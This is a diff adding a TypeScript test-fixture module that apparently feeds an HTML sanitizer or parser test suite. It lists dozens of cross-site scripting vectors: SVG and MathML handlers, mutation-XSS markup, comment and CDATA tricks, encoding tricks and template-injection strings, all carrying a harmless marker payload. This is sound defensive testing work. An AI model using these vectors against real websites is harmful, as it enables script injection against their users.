@@ -1,0 +1,111 @@
+import { base64, caseForEach, casesOf, elsewhere, strike } from './case.ts'
+
+const struck = `<img src=x: onerror=${strike}>`
+
+const foreign = casesOf('foreign name space', {
+  'script in SVG': `<svg><script>${strike}</script></svg>`,
+  'script of SVG from elsewhere': `<svg><script href="${elsewhere}/a.js" xlink:href="${elsewhere}/b.js"/></svg>`,
+  'handler in SVG': `<svg><g onload="${strike}"/><circle r=9 onbegin="${strike}"/></svg>`,
+  'link in SVG': `<svg><a xlink:href="javascript:${strike}"><text y=20>Link</text></a></svg>`,
+  'address that is animated': `<svg><a><animate attributeName=href values="javascript:${strike}"/><text y=20>Link</text></a></svg>`,
+  'address that is set': `<svg><a id=l><text y=20>Link</text></a><set href="#l" attributeName=href to="javascript:${strike}"/></svg>`,
+  'animation that begins': `<svg><animate onbegin="${strike}" attributeName=x dur=1s></svg>`,
+  'used from data': `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id=x xmlns="http://www.w3.org/2000/svg"><script>${strike}</script></svg>`)}#x"/></svg>`,
+  'used from elsewhere': `<svg><use href="${elsewhere}/u.svg#x"/><image href="${elsewhere}/i.png"/><feImage href="${elsewhere}/f.png"/></svg>`,
+  'HTML within SVG': `<svg><foreignObject><iframe srcdoc="<script>${strike}</script>"></iframe>${struck}</foreignObject></svg>`,
+  'title of SVG': `<svg><title><style></title>${struck}</style></title></svg>`,
+  'description of SVG': `<svg><desc>${struck}</desc></svg>`,
+  'style in SVG': `<svg><style>@import "${elsewhere}/s.css"; * { fill: url(${elsewhere}/s.svg#x) }</style><rect width=9 height=9 /></svg>`,
+  'filter in SVG': `<svg><rect width=9 height=9 filter="url(${elsewhere}/f.svg#x)" mask="url(${elsewhere}/m.svg#x)" cursor="url(${elsewhere}/c.cur)"/></svg>`,
+  'MathML link': `<math href="javascript:${strike}">formula</math>`,
+  'MathML action': `<math><maction actiontype="statusline#" xlink:href="javascript:${strike}">x</maction></math>`,
+  'MathML annotation': `<math><annotation-xml encoding="text/html">${struck}</annotation-xml></math>`,
+  'MathML annotation, another encoding': `<math><annotation-xml encoding="application/xhtml+xml"><svg onload=${strike}></annotation-xml></math>`,
+  'own name space': `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${strike}</x:script>`,
+  'name space of the document': `<html xmlns:v="urn:schemas-microsoft-com:vml"><v:rect style="behavior:url(#default#VML)" onload="${strike}"/></html>`,
+})
+
+/** Markup that is harmless as first read and harmful when read a second time. */
+const mutating = casesOf('reads differently the second time', {
+  'style in SVG': `<svg></p><style><a id="</style>${struck}">`,
+  'style in MathML': `<math></p><style><!--</style>${struck}--></style>`,
+  'text point in MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${struck.replace('<', '&lt;')}">`,
+  'mark in MathML': `<math><mtext><mglyph><svg><mtext><style><a title="</style>${struck}"></svg>`,
+  'form within a form': `<form><div></form><form><math><mtext></form><form><mglyph><style></math>${struck}</style></form>`,
+  'table in text of MathML': `<math><mi><table><mi><style>&lt;/style>${struck}`,
+  'select with foreign text': `<select><svg><style>${struck}</style></svg></select>`,
+  'no script': `<noscript><style></noscript>${struck}</style></noscript>`,
+  'no script, in a title': `<noscript><p title="</noscript>${struck}">`,
+  'no frames': `<noframes><p title="</noframes>${struck}"></noframes>`,
+  'no embed': `<noembed><p title="</noembed>${struck}"></noembed>`,
+  'example text': `<xmp><p title="</xmp>${struck}"></xmp>`,
+  'text area': `<textarea><p title="</textarea>${struck}"></textarea>`,
+  title: `<title><p title="</title>${struck}"></title>`,
+  iframe: `<iframe><p title="</iframe>${struck}"></iframe>`,
+  'plain text': `<plaintext>${struck}`,
+  listing: `<listing>&lt;img src=x: onerror=${strike}&gt;</listing>`,
+  template: `<template><p>${struck}</p></template>`,
+  'template in a table': `<table><template><tr><td>${struck}</template></table>`,
+  'references decoded twice': `&lt;img src=x: onerror=${strike}&gt; &amp;lt;script&amp;gt;${strike}&amp;lt;/script&amp;gt;`,
+  'attribute with markup': `<p title="&lt;/p&gt;&lt;img src=x: onerror=${strike}&gt;">Text</p>`,
+  'alternative text with markup': `<img alt="&quot;>${struck.replaceAll('<', '&lt;')}" src="https://a.example/p.png">`,
+  'deep, then foreign': `${'<div>'.repeat(120)}<svg><style><!--</style>${struck}`,
+  'deeper than the parser goes': `${'<div>'.repeat(600)}${struck}<script>${strike}</script>`,
+  'formatting adopted': `<a><table><td><a>${struck}</a></table></a><b><p><b>${struck}</p></b>`,
+  'nested links': `<a href="https://a.example"><svg><a href="javascript:${strike}"><p>Link`,
+  'custom element': `<x-a is="x-b"><style>${struck}</style></x-a>`,
+  'address of a picture description': `<p aria-label="&quot;&gt;&lt;img src=x: onerror=${strike}&gt;">Text</p>`,
+})
+
+const comments = casesOf('comment or declaration', {
+  'ends at once': `<!-->${struck}-->`,
+  'ends at once with a dash': `<!--->${struck}-->`,
+  'ends with an exclamation': `<!-- --!>${struck}-->`,
+  'within a comment': `<!-- <!-- -->${struck}--> -->`,
+  'never ends': `<!-- ${struck}`,
+  CDATA: `<![CDATA[${struck}]]>`,
+  'CDATA in SVG': `<svg><![CDATA[><img src=x: onerror=${strike}>]]></svg>`,
+  'processing instruction': `<?xml-stylesheet href="javascript:${strike}"?><?x ${struck}?>`,
+  'document type with an entity': `<!DOCTYPE x [<!ENTITY e "${struck}">]>&e;`,
+  'document type twice': `<!doctype html><!doctype html SYSTEM "${elsewhere}/x.dtd">${struck}`,
+  'for an old browser': `<!--[if gte IE 4]><script>${strike}</script><![endif]-->`,
+  'shown to all but an old browser': `<!--[if !mso]><!-->${struck}<!--<![endif]-->`,
+  'bogus closing': `</ ${struck}></!-- ${struck}-->`,
+  percent: `<% ${struck} %><%= ${struck} %>`,
+})
+
+const characters = [
+  ...casesOf('trick of characters', {
+    'UTF-7': '+ADw-script+AD4-top.__curbcutXss=1+ADw-/script+AD4-',
+    'UTF-7 declared': '<meta charset=utf-7>+ADw-script+AD4-top.__curbcutXss=1+ADw-/script+AD4-',
+    'ISO-2022-JP escape': `<meta charset=iso-2022-jp><img alt="\u001b$B" src="x"><p title="\u001b(B>${struck}">Text</p>`,
+    'ISO-2022-KR shift': `<meta http-equiv=content-type content="text/html;charset=iso-2022-kr">\u000e<p title="${struck}">\u000fText</p>`,
+    'HZ escape': `<meta charset=hz-gb-2312>~{<p title="~}${struck}">Text</p>`,
+    'overlong bytes': `\u00c0\u00bcscript\u00c0\u00be${strike}\u00c0\u00bc/script\u00c0\u00be`,
+    'wide signs': `＜script＞${strike}＜/script＞ ＜img src=x: onerror=${strike}＞`,
+    'NUL between': `<\0img src=x: onerror=${strike}><im\0g src=x: onerror=${strike}>`,
+    'lone surrogate': `<p title="\ud800${struck}">\udc00Text</p>`,
+    'letters that grow': `<ſcript>${strike}</ſcript><ıframe srcdoc="${strike}"></ıframe>`,
+    'byte order mark': `\ufeff<script>${strike}</script>`,
+    'line separator': `<a href="java\u2028script:${strike}">Link</a>`,
+  }),
+  ...caseForEach(
+    'template of another program',
+    [
+      '{{constructor.constructor("S")()}}',
+      '${S}',
+      '<%= S %>',
+      '#{S}',
+      '[[S]]',
+      '{% S %}',
+      '<x v-html="S"></x>',
+      '<p v-on:click="S" @load="S" :is="S">x</p>',
+      '<p ng-app ng-init="S">x</p>',
+      '<p x-data x-init="S">x</p>',
+      '<p hx-get="/api/session" hx-trigger="load">x</p>',
+    ],
+    (template) => `<p>${template.replaceAll('S', strike)}</p>`,
+  ),
+]
+
+export const parsingCases = [...foreign, ...mutating, ...comments, ...characters]
